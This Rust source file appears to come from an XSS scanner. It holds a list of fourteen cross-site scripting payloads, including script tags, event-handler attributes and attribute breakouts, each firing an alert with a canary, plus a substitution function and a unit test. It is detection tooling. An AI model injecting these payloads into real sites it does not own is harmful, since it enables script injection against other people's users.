/// Placeholder replaced by a fresh canary on every attempt
pub const CANARY_PLACEHOLDER: &str = "CANARY";

pub static DIALOG_PAYLOADS: &[&str] = &[
    r#"<script>alert('CANARY')</script>"#,
    r#"<img src=x onerror="alert('CANARY')">"#,
    r#"<svg onload="alert('CANARY')">"#,
    r#""><script>alert('CANARY')</script>"#,
    r#"'><script>alert('CANARY')</script>"#,
    r#"<svg/onload=alert('CANARY')>"#,
    r#"<img src=x onerror=alert('CANARY')>"#,
    r#"" onmouseover="alert('CANARY')" style="position:fixed;top:0;left:0;width:100%;height:100%;" x=""#,
    r#"<body onload="alert('CANARY')">"#,
    r#"<iframe src="javascript:alert('CANARY')">"#,
    r#"<input onfocus="alert('CANARY')" autofocus>"#,
    r#"<marquee onstart="alert('CANARY')">"#,
    r#"<video><source onerror="alert('CANARY')">"#,
    r#"<details open ontoggle="alert('CANARY')">"#,
];

pub fn instantiate(template: &str, canary: &str) -> String {
    template.replace(CANARY_PLACEHOLDER, canary)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_every_payload_carries_the_canary() {
        assert_eq!(DIALOG_PAYLOADS.len(), 14);
        for p in DIALOG_PAYLOADS {
            assert!(instantiate(p, "c0ffee").contains("c0ffee"), "{}", p);
        }
    }
}
